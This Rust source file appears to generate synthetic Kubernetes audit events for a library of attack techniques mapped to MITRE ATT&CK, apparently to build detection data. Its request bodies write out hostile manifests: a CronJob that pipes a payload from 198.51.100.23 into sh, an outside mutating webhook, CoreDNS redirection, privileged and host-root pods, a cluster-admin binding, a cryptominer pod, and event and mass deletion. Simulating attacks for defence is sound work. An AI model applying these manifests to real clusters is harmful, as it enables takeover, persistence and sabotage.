//! The attack library: techniques against Kubernetes across all ten tactics, each a function
//! that writes the audit events (with request bodies where objects are created) an attacker
//! holding some identity would cause, and names the entities it touched.

use serde_json::json;

use crate::audit::Req;
use crate::cluster::{Cluster, Pod};
use crate::rng::Rng;

/// Who the attacker is acting as.
#[derive(Debug, Clone)]
pub struct Actor {
    /// Username (a stolen service account token, a compromised user, or anonymous).
    pub user: String,
    /// Where the requests come from.
    pub ip: String,
    /// The client.
    pub agent: String,
}

/// What a technique runs against and writes into.
pub struct Step<'a> {
    /// Draws.
    pub rng: &'a mut Rng,
    /// The cluster.
    pub cluster: &'a Cluster,
    /// The pod the campaign entered through.
    pub foothold: &'a Pod,
    /// The identity in use (techniques may change it for the steps after them).
    pub actor: Actor,
    /// Time of the next request (Unix ms); techniques advance it.
    pub t: i64,
    /// (time, audit event) written.
    pub events: Vec<(i64, serde_json::Value)>,
    /// Entity ids (`Kind/namespace/name`) touched or created.
    pub entities: Vec<String>,
    /// Requests come from a script (tens of milliseconds apart), not a person typing.
    pub scripted: bool,
}

impl Step<'_> {
    fn send(&mut self, req: Req) {
        let req = req.from(&self.actor.ip).agent(&self.actor.agent);
        let e = req.event(self.rng, self.t);
        self.events.push((self.t, e));
        self.t += if self.scripted {
            self.rng.between(20, 120)
        } else {
            self.rng.between(150, 1500)
        } as i64;
    }

    fn req(&self, verb: &str, resource: &str) -> Req {
        Req::new(&self.actor.user, verb, resource)
    }

    fn touch(&mut self, id: String) {
        if !self.entities.contains(&id) {
            self.entities.push(id);
        }
    }

    fn actor_entity(&mut self) {
        let id = match self.actor.user.strip_prefix("system:serviceaccount:") {
            Some(rest) => {
                let (ns, name) = rest.split_once(':').unwrap_or((rest, ""));
                format!("ServiceAccount/{ns}/{name}")
            }
            None => format!("User//{}", self.actor.user),
        };
        self.touch(id);
    }

    /// Another namespace than the foothold's, when there is one.
    fn other_namespace(&mut self) -> String {
        let others: Vec<&str> = self
            .cluster
            .namespaces
            .iter()
            .map(|n| n.name.as_str())
            .filter(|n| *n != self.foothold.namespace)
            .collect();
        if others.is_empty() {
            self.foothold.namespace.clone()
        } else {
            (*self.rng.pick(&others)).to_string()
        }
    }
}

/// One technique of the library.
pub struct Technique {
    /// Stable id, `tactic.short-name`.
    pub id: &'static str,
    /// What it does, for people.
    pub name: &'static str,
    /// Tactic (snake_case, as findings spell it).
    pub tactic: &'static str,
    /// MITRE ATT&CK technique ids.
    pub mitre: &'static [&'static str],
    /// Writes its requests.
    pub run: fn(&mut Step<'_>),
}

/// The ten tactics in kill-chain order, which campaigns follow.
pub const TACTICS: [&str; 10] = [
    "initial_access",
    "discovery",
    "credential_access",
    "execution",
    "privilege_escalation",
    "persistence",
    "lateral_movement",
    "defense_evasion",
    "collection",
    "impact",
];

/// Every technique.
pub const LIBRARY: &[Technique] = &[
    Technique {
        id: "initial_access.stolen-token",
        name: "a service account token stolen from an exposed pod, used from outside",
        tactic: "initial_access",
        mitre: &["T1078.004", "T1528"],
        run: stolen_token,
    },
    Technique {
        id: "initial_access.anonymous-api",
        name: "the API server answers anonymous requests",
        tactic: "initial_access",
        mitre: &["T1078.001", "T1190"],
        run: anonymous_api,
    },
    Technique {
        id: "discovery.permission-enumeration",
        name: "asking the API what the identity may do",
        tactic: "discovery",
        mitre: &["T1069", "T1087"],
        run: permission_enumeration,
    },
    Technique {
        id: "discovery.broad-listing",
        name: "listing pods, services, nodes and namespaces cluster-wide",
        tactic: "discovery",
        mitre: &["T1613"],
        run: broad_listing,
    },
    Technique {
        id: "credential_access.list-secrets",
        name: "listing secrets across namespaces",
        tactic: "credential_access",
        mitre: &["T1552.007"],
        run: list_secrets,
    },
    Technique {
        id: "credential_access.token-request",
        name: "minting a token for a more powerful service account",
        tactic: "credential_access",
        mitre: &["T1528"],
        run: token_request,
    },
    Technique {
        id: "execution.exec-shell",
        name: "an interactive shell in a running pod",
        tactic: "execution",
        mitre: &["T1609"],
        run: exec_shell,
    },
    Technique {
        id: "execution.privileged-pod",
        name: "a privileged pod sharing the host's PID namespace",
        tactic: "execution",
        mitre: &["T1610"],
        run: privileged_pod,
    },
    Technique {
        id: "execution.ephemeral-container",
        name: "an ephemeral debug container attached to a pod",
        tactic: "execution",
        mitre: &["T1609"],
        run: ephemeral_container,
    },
    Technique {
        id: "privilege_escalation.cluster-admin-binding",
        name: "binding the identity to cluster-admin",
        tactic: "privilege_escalation",
        mitre: &["T1098"],
        run: cluster_admin_binding,
    },
    Technique {
        id: "privilege_escalation.host-root-mount",
        name: "a pod mounting the node's root filesystem writable",
        tactic: "privilege_escalation",
        mitre: &["T1611"],
        run: host_root_mount,
    },
    Technique {
        id: "persistence.cronjob-backdoor",
        name: "a CronJob that fetches and runs a payload",
        tactic: "persistence",
        mitre: &["T1053.007"],
        run: cronjob_backdoor,
    },
    Technique {
        id: "persistence.mutating-webhook",
        name: "a mutating admission webhook pointing outside the cluster",
        tactic: "persistence",
        mitre: &["T1546", "T1556"],
        run: mutating_webhook,
    },
    Technique {
        id: "persistence.token-secret",
        name: "a long-lived service account token secret",
        tactic: "persistence",
        mitre: &["T1098.001"],
        run: token_secret,
    },
    Technique {
        id: "lateral_movement.coredns-tamper",
        name: "rewriting CoreDNS to redirect a service name",
        tactic: "lateral_movement",
        mitre: &["T1557"],
        run: coredns_tamper,
    },
    Technique {
        id: "lateral_movement.port-forward",
        name: "a port-forward into another namespace's pod",
        tactic: "lateral_movement",
        mitre: &["T1572"],
        run: port_forward,
    },
    Technique {
        id: "defense_evasion.delete-events",
        name: "deleting the Kubernetes Events of a namespace",
        tactic: "defense_evasion",
        mitre: &["T1070"],
        run: delete_events,
    },
    Technique {
        id: "defense_evasion.system-namespace-pod",
        name: "a pod in kube-system named like kube-proxy",
        tactic: "defense_evasion",
        mitre: &["T1036.005"],
        run: system_namespace_pod,
    },
    Technique {
        id: "collection.configmaps",
        name: "reading config maps across namespaces",
        tactic: "collection",
        mitre: &["T1005"],
        run: configmaps,
    },
    Technique {
        id: "collection.logs",
        name: "reading the logs of many pods",
        tactic: "collection",
        mitre: &["T1005"],
        run: logs,
    },
    Technique {
        id: "collection.copy-out",
        name: "copying files out of a container (kubectl cp)",
        tactic: "collection",
        mitre: &["T1005", "T1041"],
        run: copy_out,
    },
    Technique {
        id: "impact.miner",
        name: "a cryptocurrency miner deployed as a workload",
        tactic: "impact",
        mitre: &["T1496"],
        run: miner,
    },
    Technique {
        id: "impact.mass-delete",
        name: "deleting many workloads",
        tactic: "impact",
        mitre: &["T1485"],
        run: mass_delete,
    },
    Technique {
        id: "impact.scale-to-zero",
        name: "scaling deployments to zero",
        tactic: "impact",
        mitre: &["T1489"],
        run: scale_to_zero,
    },
];

fn stolen_token(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    s.send(Req::non_resource(&s.actor.user, "/version"));
    let r = s.req("get", "pods").ns(&ns).name(&s.foothold.name.clone());
    s.send(r);
    let r = s.req("list", "pods").ns(&ns).query("limit=500");
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{}", s.foothold.name));
}

fn anonymous_api(s: &mut Step<'_>) {
    let actor = s.actor.clone();
    s.actor.user = "system:anonymous".into();
    s.send(Req::non_resource("system:anonymous", "/version"));
    let r = s.req("list", "namespaces");
    s.send(r);
    let r = s.req("list", "pods").query("limit=500");
    s.send(r);
    s.touch("User//system:anonymous".into());
    s.actor = actor;
}

fn permission_enumeration(s: &mut Step<'_>) {
    s.scripted = true;
    let ns = s.foothold.namespace.clone();
    for _ in 0..s.rng.between(3, 6) {
        let r = s.req("create", "selfsubjectrulesreviews").group("authorization.k8s.io")
            .body(json!({"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": ns}}));
        s.send(r);
        let r = s
            .req("create", "selfsubjectaccessreviews")
            .group("authorization.k8s.io");
        s.send(r);
    }
    s.actor_entity();
}

fn broad_listing(s: &mut Step<'_>) {
    s.scripted = true;
    for (resource, group) in [
        ("namespaces", None),
        ("pods", None),
        ("services", None),
        ("nodes", None),
        ("configmaps", None),
        ("serviceaccounts", None),
        ("deployments", Some("apps")),
        ("daemonsets", Some("apps")),
        ("roles", Some("rbac.authorization.k8s.io")),
        ("clusterrolebindings", Some("rbac.authorization.k8s.io")),
    ] {
        let mut r = s.req("list", resource).query("limit=500");
        if let Some(g) = group {
            r = r.group(g);
        }
        s.send(r);
    }
    s.actor_entity();
}

fn list_secrets(s: &mut Step<'_>) {
    s.scripted = true;
    let r = s.req("list", "secrets").query("limit=500");
    s.send(r);
    for _ in 0..s.rng.between(2, 4) {
        let ns = s.other_namespace();
        let r = s.req("list", "secrets").ns(&ns).query("limit=500");
        s.send(r);
        s.touch(format!("Secret/{ns}/*"));
    }
    s.actor_entity();
}

fn token_request(s: &mut Step<'_>) {
    let r = s.req("create", "serviceaccounts").ns("ci").name("backup").subresource("token")
        .body(json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 86400}}));
    s.send(r);
    s.actor_entity();
    s.touch("ServiceAccount/ci/backup".into());
    s.actor.user = "system:serviceaccount:ci:backup".into();
}

fn exec_shell(s: &mut Step<'_>) {
    let (ns, pod) = (s.foothold.namespace.clone(), s.foothold.name.clone());
    let r = s
        .req("create", "pods")
        .ns(&ns)
        .name(&pod)
        .subresource("exec")
        .query("command=%2Fbin%2Fsh&stdin=true&stdout=true&tty=true")
        .code(101);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{pod}"));
}

/// Creates a pod named `prefix-<random>` in `ns` with `spec`, as the actor.
fn launch_pod(s: &mut Step<'_>, ns: &str, prefix: &str, spec: serde_json::Value) {
    let name = format!("{prefix}-{:x}", s.rng.next_u64() & 0xfffff);
    let body = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": ns}, "spec": spec});
    let r = s.req("create", "pods").ns(ns).name(&name).body(body);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{name}"));
}

fn privileged_pod(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let spec = json!({"hostPID": true, "hostNetwork": true,
        "containers": [{"name": "shell", "image": "docker.io/library/alpine:3.20", "command": ["sleep", "infinity"],
            "securityContext": {"privileged": true}}]});
    launch_pod(s, &ns, "debug", spec);
}

fn ephemeral_container(s: &mut Step<'_>) {
    let (ns, pod) = (s.foothold.namespace.clone(), s.foothold.name.clone());
    let r = s.req("patch", "pods").ns(&ns).name(&pod).subresource("ephemeralcontainers")
        .body(json!({"spec": {"ephemeralContainers": [{"name": "debugger", "image": "docker.io/nicolaka/netshoot:v0.13", "stdin": true, "tty": true}]}}));
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{pod}"));
}

fn cluster_admin_binding(s: &mut Step<'_>) {
    let name = format!("system-monitoring-{:x}", s.rng.next_u64() & 0xfff);
    let (kind, subject_ns, subject_name) = match s.actor.user.strip_prefix("system:serviceaccount:")
    {
        Some(rest) => {
            let (ns, n) = rest.split_once(':').unwrap_or((rest, ""));
            ("ServiceAccount", Some(ns.to_string()), n.to_string())
        }
        None => ("User", None, s.actor.user.clone()),
    };
    let mut subject = json!({"kind": kind, "name": subject_name});
    if let Some(ns) = subject_ns {
        subject["namespace"] = ns.into();
    }
    let body = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [subject]});
    let r = s
        .req("create", "clusterrolebindings")
        .group("rbac.authorization.k8s.io")
        .name(&name)
        .body(body);
    s.send(r);
    s.actor_entity();
    s.touch(format!("ClusterRoleBinding//{name}"));
}

fn host_root_mount(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let spec = json!({"containers": [{"name": "shell", "image": "docker.io/library/busybox:1.36",
        "command": ["chroot", "/host", "sh"], "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]});
    launch_pod(s, &ns, "node-shell", spec);
}

fn cronjob_backdoor(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let name = format!("log-rotate-{:x}", s.rng.next_u64() & 0xfff);
    let body = json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": name, "namespace": ns},
        "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "Never",
            "containers": [{"name": "job", "image": "docker.io/curlimages/curl:8.9.1",
                "command": ["sh", "-c", "curl -s http://198.51.100.23/p.sh | sh"]}]}}}}}});
    let r = s
        .req("create", "cronjobs")
        .group("batch")
        .ns(&ns)
        .name(&name)
        .body(body);
    s.send(r);
    s.actor_entity();
    s.touch(format!("CronJob/{ns}/{name}"));
}

fn mutating_webhook(s: &mut Step<'_>) {
    let name = format!("pod-policy-{:x}", s.rng.next_u64() & 0xfff);
    let body = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [{"name": "pods.policy.example", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": {"url": "https://198.51.100.23/mutate"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]}]});
    let r = s
        .req("create", "mutatingwebhookconfigurations")
        .group("admissionregistration.k8s.io")
        .name(&name)
        .body(body);
    s.send(r);
    s.actor_entity();
    s.touch(format!("MutatingWebhookConfiguration//{name}"));
}

fn token_secret(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let sa = s.foothold.service_account.clone();
    let name = format!("{sa}-token-{:x}", s.rng.next_u64() & 0xfff);
    let body = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": name, "namespace": ns, "annotations": {"kubernetes.io/service-account.name": sa}}});
    let r = s.req("create", "secrets").ns(&ns).name(&name).body(body);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Secret/{ns}/{name}"));
}

fn coredns_tamper(s: &mut Step<'_>) {
    let r = s.req("get", "configmaps").ns("kube-system").name("coredns");
    s.send(r);
    let body = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "coredns", "namespace": "kube-system"},
        "data": {"Corefile": ".:53 {\n    errors\n    hosts {\n      198.51.100.23 payments.default.svc.cluster.local\n      fallthrough\n    }\n    kubernetes cluster.local\n    forward . /etc/resolv.conf\n}\n"}});
    let r = s
        .req("update", "configmaps")
        .ns("kube-system")
        .name("coredns")
        .body(body);
    s.send(r);
    s.actor_entity();
    s.touch("ConfigMap/kube-system/coredns".into());
}

fn port_forward(s: &mut Step<'_>) {
    let ns = s.other_namespace();
    let Some(target) = s
        .cluster
        .namespaces
        .iter()
        .find(|n| n.name == ns)
        .and_then(|n| n.pods.first())
        .cloned()
    else {
        return;
    };
    let r = s
        .req("create", "pods")
        .ns(&ns)
        .name(&target.name)
        .subresource("portforward")
        .code(101);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{}", target.name));
}

fn delete_events(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let r = s.req("deletecollection", "events").ns(&ns);
    s.send(r);
    let r = s
        .req("deletecollection", "events")
        .group("events.k8s.io")
        .ns(&ns);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Event/{ns}/*"));
}

fn system_namespace_pod(s: &mut Step<'_>) {
    let spec = json!({"hostNetwork": true,
        "containers": [{"name": "kube-proxy", "image": "docker.io/kubeproxy-mirror/kube-proxy:v1.31.2",
            "securityContext": {"privileged": true}}]});
    launch_pod(s, "kube-system", "kube-proxy", spec);
}

fn configmaps(s: &mut Step<'_>) {
    s.scripted = true;
    let r = s.req("list", "configmaps").query("limit=500");
    s.send(r);
    for _ in 0..s.rng.between(2, 4) {
        let ns = s.other_namespace();
        let r = s.req("list", "configmaps").ns(&ns).query("limit=500");
        s.send(r);
    }
    s.actor_entity();
}

fn logs(s: &mut Step<'_>) {
    s.scripted = true;
    let pods: Vec<Pod> = s
        .cluster
        .namespaces
        .iter()
        .flat_map(|n| n.pods.iter().cloned())
        .collect();
    for _ in 0..s.rng.between(6, 12) {
        let p = s.rng.pick(&pods).clone();
        let r = s
            .req("get", "pods")
            .ns(&p.namespace)
            .name(&p.name)
            .subresource("log")
            .query("tailLines=5000");
        s.send(r);
        s.touch(format!("Pod/{}/{}", p.namespace, p.name));
    }
    s.actor_entity();
}

fn copy_out(s: &mut Step<'_>) {
    let (ns, pod) = (s.foothold.namespace.clone(), s.foothold.name.clone());
    let r = s
        .req("create", "pods")
        .ns(&ns)
        .name(&pod)
        .subresource("exec")
        .query(
            "command=tar&command=cf&command=-&command=%2Fvar%2Flib%2Fapp&stderr=true&stdout=true",
        )
        .code(101);
    s.send(r);
    s.actor_entity();
    s.touch(format!("Pod/{ns}/{pod}"));
}

fn miner(s: &mut Step<'_>) {
    let ns = s.foothold.namespace.clone();
    let spec = json!({"containers": [{"name": "agent", "image": "docker.io/minerhub/xmrig:6.21.0",
        "args": ["-o", "pool.supportxmr.com:443", "--tls"], "resources": {"requests": {"cpu": "4"}}}]});
    launch_pod(s, &ns, "metrics-agent", spec);
}

fn mass_delete(s: &mut Step<'_>) {
    // `kubectl delete all,secrets,configmaps --all -n NS`: a list, then one delete per object.
    s.scripted = true;
    let ns = s.other_namespace();
    let Some(target) = s.cluster.namespaces.iter().find(|n| n.name == ns).cloned() else {
        return;
    };
    let mut apps: Vec<String> = target
        .pods
        .iter()
        .map(|p| p.service_account.clone())
        .collect();
    apps.dedup();
    for p in &target.pods {
        let r = s.req("delete", "pods").ns(&ns).name(&p.name);
        s.send(r);
        s.touch(format!("Pod/{ns}/{}", p.name));
    }
    for a in &apps {
        for (resource, group) in [("deployments", Some("apps")), ("services", None)] {
            let mut r = s.req("delete", resource).ns(&ns).name(a);
            if let Some(g) = group {
                r = r.group(g);
            }
            s.send(r);
        }
        s.touch(format!("Deployment/{ns}/{a}"));
    }
    for secret in &target.secrets {
        let r = s.req("delete", "secrets").ns(&ns).name(secret);
        s.send(r);
    }
    for cm in &target.configmaps {
        let r = s.req("delete", "configmaps").ns(&ns).name(cm);
        s.send(r);
    }
    s.actor_entity();
}

fn scale_to_zero(s: &mut Step<'_>) {
    let ns = s.other_namespace();
    let apps: Vec<String> = s
        .cluster
        .namespaces
        .iter()
        .filter(|n| n.name == ns)
        .flat_map(|n| n.pods.iter().map(|p| p.service_account.clone()))
        .collect();
    let mut seen = Vec::new();
    for a in apps {
        if seen.contains(&a) {
            continue;
        }
        let r = s
            .req("patch", "deployments")
            .group("apps")
            .ns(&ns)
            .name(&a)
            .subresource("scale")
            .body(json!({"spec": {"replicas": 0}}));
        s.send(r);
        s.touch(format!("Deployment/{ns}/{a}"));
        seen.push(a);
    }
    s.actor_entity();
}
